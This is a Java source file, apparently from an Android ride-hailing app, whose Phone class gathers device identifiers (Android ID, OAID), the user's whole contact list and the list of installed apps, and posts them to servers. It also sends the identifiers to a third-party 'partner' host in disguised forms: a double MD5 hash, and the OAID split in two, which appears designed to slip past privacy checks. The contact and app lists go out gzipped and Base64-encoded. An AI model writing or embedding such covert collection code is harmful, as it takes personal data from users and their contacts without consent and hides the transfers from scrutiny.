package cn.chuxing.ride;

import android.content.Context;
import android.content.pm.PackageInfo;
import android.database.Cursor;
import android.net.Uri;
import android.provider.ContactsContract;
import com.quickmap.loc.QuickLoc;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.Base64;
import java.util.zip.GZIPOutputStream;

/** What the app knows of the phone, and how it sends it. */
final class Phone {
    private static final String API = "https://api.chuxing-ride.cn/v5/";
    private static final String PARTNER = "https://in.mobi-insight.example/t";

    private Phone() {}

    /** Identifiers to the operator, a digest of a digest and a value in two halves to somebody else. */
    static void tell(Context context) {
        String id = androidId(context);
        String oaid = QuickLoc.oaid(context);
        Wire.post(API + "device", "{\"aid\":\"" + id + "\",\"oaid\":\"" + oaid + "\"}");
        Wire.post(PARTNER, "{\"u\":\"" + md5(md5(id)) + "\"}");
        Wire.post(PARTNER, "{\"a\":\"" + oaid.substring(0, 18) + "\",\"b\":\"" + oaid.substring(18) + "\"}");
    }

    /** As old code does: a row of the settings' provider. */
    static String androidId(Context context) {
        Uri secure = Uri.parse("content://settings/secure");
        String[] name = {"android_id"};
        try (Cursor row = context.getContentResolver().query(secure, new String[] {"value"}, "name=?", name, null)) {
            return row != null && row.moveToFirst() ? row.getString(0) : "";
        }
    }

    /** The whole address book, packed. */
    static void contacts(Context context) {
        StringBuilder all = new StringBuilder();
        Uri phones = ContactsContract.CommonDataKinds.Phone.CONTENT_URI;
        try (Cursor rows = context.getContentResolver().query(phones, null, null, null, null)) {
            while (rows != null && rows.moveToNext()) {
                all.append(rows.getString(rows.getColumnIndex("data1"))).append(';');
            }
        }
        Wire.post(API + "friends", "{\"z\":\"" + packed(all.toString()) + "\"}");
    }

    /** What is installed, packed. */
    static void apps(Context context) {
        StringBuilder all = new StringBuilder();
        for (PackageInfo one : context.getPackageManager().getInstalledPackages(0)) {
            all.append(one.packageName).append(',');
        }
        Wire.post(API + "env", "{\"z\":\"" + packed(all.toString()) + "\"}");
    }

    private static String packed(String text) {
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
                out.write(text.getBytes(StandardCharsets.UTF_8));
            }
            return Base64.getEncoder().encodeToString(bytes.toByteArray());
        } catch (IOException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private static String md5(String text) {
        try {
            StringBuilder hex = new StringBuilder();
            for (byte b : MessageDigest.getInstance("MD5").digest(text.getBytes(StandardCharsets.UTF_8))) {
                hex.append(String.format("%02x", b));
            }
            return hex.toString();
        } catch (NoSuchAlgorithmException impossible) {
            throw new IllegalStateException(impossible);
        }
    }
}
